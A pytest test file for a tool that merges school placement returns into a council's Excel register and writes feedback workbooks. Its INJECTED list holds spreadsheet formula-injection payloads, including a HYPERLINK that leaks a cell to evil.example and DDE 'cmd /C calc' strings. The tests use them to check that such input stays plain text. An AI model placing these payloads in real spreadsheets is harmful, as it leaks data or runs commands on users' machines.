"""The school's feedback workbook and merging accepted rows into the register: provenance, no duplicates, nothing else changed."""
from __future__ import annotations

import re
import shutil
import zipfile
from datetime import date, datetime
from pathlib import Path

import openpyxl
import pytest

from apxl.errors import ApxlError
from apxl.io.returns.cells import FORMULA_TRIGGERS, write
from apxl.io.returns.feedback import write_feedback
from apxl.io.returns.merge import PROVENANCE, Addition, merge_into_register

from .conftest import RECEIVED, REGISTER, SCHOOL_RETURNS, lo_convert, soffice

INJECTED = ['=HYPERLINK("http://evil.example/?leak="&B2,"Click for details")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\tEastfield College"]


def _no_formulas(path: Path) -> None:
    """No cell of any sheet is stored as a formula (<f> element), whatever text it holds."""
    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/sheet"):
                assert not re.search(rb"<f[ >]", z.read(name)), f"{path.name}:{name} holds a formula"


def _cells(path: Path, skip: dict[str, set[tuple[int, int]]] | None = None) -> dict:
    """Every non-empty cell of every sheet: value, number format and data type, keyed by (sheet, row, col)."""
    wb = openpyxl.load_workbook(path)
    out = {}
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                if c.value is not None and (c.row, c.column) not in (skip or {}).get(ws.title, set()):
                    out[(ws.title, c.row, c.column)] = (c.value, c.number_format, c.data_type)
    return out


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@A1", "\tx", "\rx", "=HYPERLINK(\"x\")", "#REF!"])
def test_cell_writer_never_makes_a_formula(text):
    ws = openpyxl.Workbook().active
    cell = write(ws["A1"], text)
    assert cell.data_type == "s" and cell.value == text
    assert cell.quotePrefix is (text.startswith(FORMULA_TRIGGERS))


def test_cell_writer_types():
    ws = openpyxl.Workbook().active
    assert write(ws["A1"], True, yn=True).value == "Y"
    assert write(ws["A2"], datetime(2025, 3, 3)).number_format == "dd/mm/yyyy"
    assert write(ws["A3"], float("nan")).value is None
    assert write(ws["A4"], "a\x00b").value == "ab"  # characters a workbook cannot hold are dropped


def test_feedback_workbook(ingested, tmp_path):
    r = ingested["100003_castle_hill.xlsx"]
    path = write_feedback(r, tmp_path / "fb.xlsx")
    wb = openpyxl.load_workbook(path)
    assert wb.sheetnames == ["Feedback", "Your rows", "Findings"]
    rows = wb["Your rows"]
    head = [c.value for c in rows[1]]
    assert head[:3] == ["Row in your return", "Status", "Placement ID on the register"] and head[-1] == "Findings"
    assert head[3:-1] == list(r.prepared.file.placements.headers)  # the school's own headers, as sent
    got = {rows.cell(i, 1).value: (rows.cell(i, 2).value, rows.cell(i, 3).value) for i in range(2, rows.max_row + 1)}
    assert got == {2: ("Already on the register", "AP-0006"), 3: ("Accepted: new placement", "RET-100003-2025-03-R3"),
                   4: ("Needs correction", "RET-100003-2025-03-R4")}
    start_col = head.index("Start date") + 1
    bad = rows.cell(4, start_col)
    assert bad.value == "w/c 17 March" and bad.fill.start_color.rgb.endswith("FFC7CE")  # the unreadable date, in red
    assert "STR-003" in rows.cell(4, len(head)).value
    findings = wb["Findings"]
    assert findings.max_row - 1 == len(r.report.frame)


def test_feedback_keeps_injected_text_as_text(ingested, tmp_path):
    path = write_feedback(ingested["100005_eastfield.xlsx"], tmp_path / "fb.xlsx")
    _no_formulas(path)
    values = {c.value for row in openpyxl.load_workbook(path)["Your rows"].iter_rows() for c in row if isinstance(c.value, str)}
    assert set(INJECTED) <= values


def _additions(ingested) -> list[Addition]:
    return [Addition(ingested[n].accepted, ingested[n].prepared.school_urn, n, RECEIVED) for n in SCHOOL_RETURNS]


def test_merge_appends_new_rows_with_provenance(ingested, work):
    target, added = merge_into_register(work / "register.xlsx", _additions(ingested))
    assert target == work / "register-merged.xlsx"
    assert list(added["placement_id"]) == ["RET-100001-2025-03-R5", "RET-100002-2025-03-R7", "RET-100003-2025-03-R3", "RET-100005-2025-03-R2"]
    ws = openpyxl.load_workbook(target)["Placements"]
    heads = [c.value for c in ws[1]]
    assert heads[-3:] == list(PROVENANCE.values())
    assert ws.tables["Placements"].ref == "A1:AG14"  # 9 placements + 4 added, 30 contract + 3 provenance columns
    last = {h: ws.cell(14, j + 1).value for j, h in enumerate(heads)}
    assert last["Placement ID"] == "RET-100005-2025-03-R2"
    assert (last["Returned by school (URN)"], last["Return file"], last["Date received"]) == ("100005", "100005_eastfield.xlsx", datetime(2025, 4, 2))
    assert last["Start date"] == datetime(2025, 3, 5) and ws.cell(14, heads.index("Start date") + 1).number_format == "dd/mm/yyyy"
    assert all(ws.cell(r, heads.index("Return file") + 1).value is None for r in range(2, 11))  # the LA's own rows: no provenance


def test_merge_changes_nothing_else(ingested, work):
    source = work / "register.xlsx"
    before_bytes = source.read_bytes()
    target, added = merge_into_register(source, _additions(ingested))
    assert source.read_bytes() == before_bytes  # never overwritten unless asked
    new_rows = set(range(11, 11 + len(added)))
    prov_cols = {31, 32, 33}
    placements = {(r, c) for r in range(1, 20) for c in range(1, 40) if r in new_rows or c in prov_cols}
    before = _cells(source)
    after = _cells(target, skip={"Placements": placements})
    assert after == before
    b, a = openpyxl.load_workbook(source), openpyxl.load_workbook(target)
    assert a.sheetnames == b.sheetnames
    assert a["Notes"]["B2"].value == "=COUNTA(Placements!A2:A500)"  # the officer's formula survives
    assert [str(dv.sqref) for dv in a["Placements"].data_validations.dataValidation] == [str(dv.sqref) for dv in b["Placements"].data_validations.dataValidation]
    assert a["Placements"].freeze_panes == b["Placements"].freeze_panes


def test_merge_never_duplicates(ingested, work):
    first, added = merge_into_register(work / "register.xlsx", _additions(ingested))
    again, added_again = merge_into_register(first, _additions(ingested), output=work / "twice.xlsx")
    assert len(added) == 4 and len(added_again) == 0
    # The same placement under another Placement ID (the LA gave it its own) is still recognised by UPN + provider + start.
    renamed = [Addition(a.placements.assign(placement_id="SCHOOL-REF-1"), a.school_urn, a.file_name, a.received) for a in _additions(ingested)]
    _, added_renamed = merge_into_register(first, renamed, output=work / "renamed.xlsx")
    assert len(added_renamed) == 0
    ws = openpyxl.load_workbook(work / "twice.xlsx")["Placements"]
    ids = [ws.cell(r, 1).value for r in range(2, ws.max_row + 1) if ws.cell(r, 1).value]
    assert len(ids) == len(set(ids)) == 13


def test_merge_stores_formula_like_text_as_text(ingested, work):
    target, _ = merge_into_register(work / "register.xlsx", _additions(ingested))
    _no_formulas_in_placements(target)
    ws = openpyxl.load_workbook(target)["Placements"]
    row = [c for c in ws[14]]
    texts = {c.value for c in row if isinstance(c.value, str)}
    assert {INJECTED[0], INJECTED[1], INJECTED[2], INJECTED[3]} <= texts
    assert all(c.data_type == "s" for c in row if isinstance(c.value, str))


def _no_formulas_in_placements(path: Path) -> None:
    with zipfile.ZipFile(path) as z:
        assert not re.search(rb"<f[ >]", z.read("xl/worksheets/sheet1.xml"))


def test_merge_in_place_keeps_a_backup(ingested, work):
    source = work / "register.xlsx"
    original = source.read_bytes()
    target, added = merge_into_register(source, _additions(ingested), in_place=True)
    assert target == source and len(added) == 4
    backups = list(work.glob("register.backup-*.xlsx"))
    assert len(backups) == 1 and backups[0].read_bytes() == original


def test_merge_refuses_to_overwrite_the_register_by_accident(ingested, work):
    with pytest.raises(ApxlError, match="--in-place"):
        merge_into_register(work / "register.xlsx", _additions(ingested), output=work / "register.xlsx")


def test_merge_with_nothing_to_add_still_changes_nothing(work):
    target, added = merge_into_register(work / "register.xlsx", [])
    assert len(added) == 0
    assert _cells(target) == _cells(work / "register.xlsx")


@pytest.mark.skipif(soffice() is None, reason="LibreOffice is not installed")
def test_feedback_and_merged_register_open_in_libreoffice(ingested, work, tmp_path):
    fb = write_feedback(ingested["100005_eastfield.xlsx"], work / "fb.xlsx")
    merged, _ = merge_into_register(work / "register.xlsx", _additions(ingested))
    out = lo_convert(merged, tmp_path / "lo", "xlsx", tmp_path / "profile")
    ws = openpyxl.load_workbook(out)["Placements"]
    assert ws.cell(14, 3).value == INJECTED[0]  # still text after LibreOffice saved it
    _no_formulas_in_placements(out)
    lo_convert(fb, tmp_path / "lo2", "xlsx", tmp_path / "profile")


def test_register_is_untouched_by_a_refused_return(work):
    from apxl.io.returns.api import run_ingest
    from apxl.io.returns.safety import UnsafeReturnError

    from .conftest import MONTH_DIR

    before = {p.name: p.read_bytes() for p in work.iterdir()}
    shutil.copy(MONTH_DIR / "hostile_macro_renamed.xlsx", work / "bad.xlsx")
    with pytest.raises(UnsafeReturnError):
        run_ingest(work / "bad.xlsx", work / "register.xlsx", received=date(2025, 4, 2))
    after = {p.name: p.read_bytes() for p in work.iterdir() if p.name != "bad.xlsx"}
    assert after == before  # no merged register, no feedback, register bytes unchanged


def test_merge_leaves_every_other_part_byte_for_byte(ingested, work):
    source = work / "register.xlsx"
    target, _ = merge_into_register(source, _additions(ingested))
    with zipfile.ZipFile(source) as a, zipfile.ZipFile(target) as b:
        before = {n: a.read(n) for n in a.namelist()}
        after = {n: b.read(n) for n in b.namelist()}
    changed = sorted(n for n in before if before[n] != after.get(n))
    assert set(after) == set(before)
    assert changed == ["xl/styles.xml", "xl/tables/table1.xml", "xl/worksheets/sheet1.xml"]


def test_merge_into_the_apxl_register_layout(ingested, tmp_path):
    """The register `apxl new`/the demo write: an Excel table with pre-formatted spare rows and drop-downs."""
    from apxl.io.reader import read_register
    from apxl.io.register_writer import write_register

    la = read_register(REGISTER)
    path = write_register(tmp_path / "reg.xlsx", {"placements": la.placements.reset_index(drop=True), "providers": la.providers.reset_index(drop=True)})
    target, added = merge_into_register(path, _additions(ingested))
    back = read_register(target)
    assert list(back.placements["placement_id"])[-4:] == list(added["placement_id"])
    new = back.placements.iloc[-1]
    assert new["start_date"] == pd_ts("2025-03-05") and new["rate"] == 35 and new["surname"] == INJECTED[0]
    assert back.findings[back.findings["rule_id"].str.startswith("STR")].empty
    ws = openpyxl.load_workbook(target)["Placements"]
    start_col = [c.value for c in ws[1]].index("Start date") + 1
    assert ws.cell(14, 1).value == "RET-100005-2025-03-R2" and ws.cell(15, 1).value is None
    assert ws.cell(14, start_col).number_format.lower() == "dd/mm/yyyy"
    _no_formulas_in_placements(target)


def pd_ts(text):
    import pandas as pd

    return pd.Timestamp(text)
